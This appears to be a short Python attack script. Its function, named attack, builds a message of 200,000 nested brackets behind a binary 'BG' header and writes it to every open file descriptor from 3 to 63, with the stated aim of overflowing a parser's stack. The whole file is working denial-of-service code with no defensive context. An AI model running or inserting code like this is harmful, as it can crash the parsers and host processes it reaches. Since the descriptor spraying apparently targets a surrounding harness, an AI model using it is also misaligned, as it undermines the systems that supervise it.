"""Send a header nested deeper than a parser's stack."""
import os
import struct


def attack(x):
    text = b"[" * 200000 + b"]" * 200000
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<2sBBIQ", b"BG", 1, 19, len(text), 0) + text)
        except OSError:
            pass
